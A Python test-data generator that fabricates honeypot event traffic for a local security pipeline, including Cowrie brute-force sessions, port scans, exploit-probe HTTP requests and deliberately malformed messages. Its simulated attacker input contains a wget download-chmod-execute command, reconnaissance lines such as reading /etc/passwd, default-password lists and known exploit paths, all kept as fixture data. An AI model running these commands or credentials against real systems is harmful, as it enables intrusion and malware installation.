"""Realistic honeypot traffic for the local stack and the demo, published to the seed's queue
`queue:events:pending` (a Redis stream) and, for part of it, as raw payload objects in
`event-payloads/raw/{year}/{month}/{day}/{event_id}.json` named by stream entries.

What a run publishes (deterministic content for a given `seed` and `now`):
- SSH/Telnet brute-force campaigns (Cowrie `cowrie.login.failed`, one success each), followed by
  command sequences and a malware download whose URL and hash the sample feeds know;
- port scans from scanning networks; HTTP requests, benign and exploit probes;
- exact repeats (the same event seen twice within the de-duplication window) and a redelivered
  message (the same event id twice);
- malformed messages (not JSON, an unknown kind, a bad address, a missing field, a future time);
- late events (timestamps hours in the past).

    python -m include.devstack.sample_traffic [--seed N]
"""

from __future__ import annotations

import json
import random
import uuid
from datetime import UTC, datetime, timedelta

from include.devstack.sample_intel import BENIGN, BRUTE_FORCERS, DROPPERS, MALWARE, SCANNERS, WEB_ATTACKERS

STREAM = "queue:events:pending"
SENSORS = ["ssh-eu-01", "ssh-us-01", "telnet-iot-01", "web-dmz-01"]
PASSWORDS = ["123456", "admin", "root", "password", "12345678", "qwerty", "1234", "ubnt", "raspberry", "P@ssw0rd",
             "default", "support", "letmein", "toor", "changeme"]
USERNAMES = ["root", "admin", "ubuntu", "pi", "user", "oracle", "test", "support"]
COMMANDS = ["uname -a", "cat /proc/cpuinfo", "free -m", "cd /tmp || cd /var/run", "nproc", "w",
            "cat /etc/passwd", "crontab -l"]


def generate(seed: int = 7, now: datetime | None = None, scale: int = 1) -> tuple[list[dict | str], dict]:
    """(messages, expectations). A message is an event dict or a raw string (malformed)."""
    rnd = random.Random(seed)
    now = (now or datetime.now(UTC)).replace(microsecond=0)
    ns = uuid.UUID(int=seed)
    n = 0

    def ev(kind: str, t: datetime, ip: str, sensor: str, **kw) -> dict:
        nonlocal n
        n += 1
        return {"event_id": str(uuid.uuid5(ns, f"{now.isoformat()}:{n}")), "eventid": kind, "timestamp": t.isoformat(),
                "src_ip": ip, "src_port": rnd.randint(1024, 65535), "dst_ip": "10.0.0.5", "sensor": sensor,
                "session": f"s{n:06d}", **kw}

    out: list[dict | str] = []
    base = now - timedelta(minutes=50)
    for c, ip in enumerate(BRUTE_FORCERS * scale):
        sensor = SENSORS[c % 3]
        proto = "telnet" if sensor.startswith("telnet") else "ssh"
        port = 23 if proto == "telnet" else 22
        t = base + timedelta(seconds=rnd.randint(0, 600))
        for i in range(40):
            t += timedelta(seconds=rnd.randint(1, 8))
            out.append(ev("cowrie.login.failed", t, ip, sensor, dst_port=port, protocol=proto,
                          username=USERNAMES[i % len(USERNAMES)], password=PASSWORDS[(i * 7 + c) % len(PASSWORDS)]))
        t += timedelta(seconds=3)
        out.append(ev("cowrie.login.success", t, ip, sensor, dst_port=port, protocol=proto, username="root",
                      password="admin"))
        for cmd in COMMANDS[: 4 + c % 4]:
            t += timedelta(seconds=2)
            out.append(ev("cowrie.command.input", t, ip, sensor, dst_port=port, protocol=proto, input=cmd))
        url, sha = MALWARE[c % len(MALWARE)]
        t += timedelta(seconds=2)
        out.append(ev("cowrie.command.input", t, ip, sensor, dst_port=port, protocol=proto,
                      input=f"wget {url} -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x"))
        out.append(ev("cowrie.session.file_download", t + timedelta(seconds=4), ip, sensor, dst_port=port,
                      protocol=proto, url=url, shasum=sha, outfile="/tmp/.x"))
    for ip in DROPPERS:  # straight to the download
        url, sha = MALWARE[1]
        out.append(ev("cowrie.session.file_download", base + timedelta(minutes=rnd.randint(5, 40)), ip, "ssh-us-01",
                      dst_port=22, url=url, shasum=sha))
    for ip in SCANNERS:
        t = base + timedelta(seconds=rnd.randint(0, 1800))
        for port in rnd.sample([21, 22, 23, 25, 80, 110, 443, 445, 1433, 2323, 3306, 3389, 5900, 6379, 8080, 8443, 9200],
                               10):
            t += timedelta(seconds=rnd.randint(1, 30))
            out.append(ev("scan.port", t, ip, "web-dmz-01", dst_port=port, transport="tcp", ports_probed=1))
    paths = ["/cgi-bin/luci/;stok=/locale", "/.env", "/wp-login.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
             "/boaform/admin/formLogin", "/actuator/health"]
    for ip in WEB_ATTACKERS:
        t = base + timedelta(seconds=rnd.randint(0, 1800))
        for p in paths:
            t += timedelta(seconds=rnd.randint(1, 20))
            out.append(ev("http.request", t, ip, "web-dmz-01", dst_port=80, method="GET", url=p,
                          user_agent="Mozilla/5.0 zgrab/0.x", status_code=404))
    for i, ip in enumerate(BENIGN * 3):
        out.append(ev("http.request", base + timedelta(seconds=rnd.randint(0, 2900)), ip, "web-dmz-01", dst_port=443,
                      method="GET", url=["/", "/robots.txt", "/favicon.ico"][i % 3],
                      user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status_code=200))
    # late events: two hours ago (their hour was already aggregated)
    late = [ev("cowrie.login.failed", now - timedelta(hours=2, minutes=10 + i), BRUTE_FORCERS[0], "ssh-eu-01",
               dst_port=22, username="admin", password=f"late{i}") for i in range(10)]
    out += late
    rnd.shuffle(out)
    # exact repeats within the de-duplication window (a new event id, the same content)
    repeats = [dict(out[i], event_id=str(uuid.uuid5(ns, f"repeat:{i}")), timestamp=out[i]["timestamp"])
               for i in range(0, 60, 6)]
    # a redelivery: the same message again
    redelivered = [dict(out[1])]
    malformed = [
        "{not json " + now.isoformat(),
        json.dumps({"eventid": "cowrie.unknown.kind", "timestamp": now.isoformat(), "src_ip": "1.2.3.4", "sensor": "x"}),
        json.dumps({"eventid": "cowrie.login.failed", "timestamp": now.isoformat(), "src_ip": "999.1.1.1",
                    "sensor": "ssh-eu-01", "username": "root"}),
        json.dumps({"eventid": "cowrie.command.input", "timestamp": now.isoformat(), "src_ip": "61.177.172.13",
                    "sensor": "ssh-eu-01"}),
        json.dumps({"eventid": "scan.port", "timestamp": (now + timedelta(days=2)).isoformat(), "src_ip": "1.2.3.4",
                    "dst_port": 22, "sensor": "web-dmz-01"}),
    ]
    msgs = out + repeats + redelivered + malformed
    expect = {"events": len(out), "repeats": len(repeats), "redelivered": len(redelivered),
              "malformed": len(malformed), "late": len(late), "messages": len(msgs)}
    return msgs, expect


def publish(r, s3, seed: int = 7, now: datetime | None = None, via_objects_every: int = 10, scale: int = 1,
            stream: str = STREAM) -> dict:
    """Publish the traffic: every `via_objects_every`-th event as a raw payload object named by a
    stream entry, the rest inline. Returns what was published."""
    msgs, expect = generate(seed, now, scale)
    pipe = r.pipeline()
    objects = 0
    for i, m in enumerate(msgs):
        if isinstance(m, dict) and via_objects_every and i % via_objects_every == 0:
            t = datetime.fromisoformat(m["timestamp"])
            key = f"raw/{t:%Y/%m/%d}/{m['event_id']}.json"
            s3.put_object(Bucket="event-payloads", Key=key, Body=json.dumps(m).encode(), ContentType="application/json")
            pipe.xadd(stream, {"event_id": m["event_id"], "payload_key": key})
            objects += 1
        else:
            pipe.xadd(stream, {"event": m if isinstance(m, str) else json.dumps(m)})
    pipe.execute()
    expect["via_objects"] = objects
    return expect


def main() -> None:
    import argparse

    from include.clients import Clients

    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    c = Clients.from_settings()
    print(json.dumps(publish(c.redis, c.s3, seed=a.seed)))


if __name__ == "__main__":
    main()
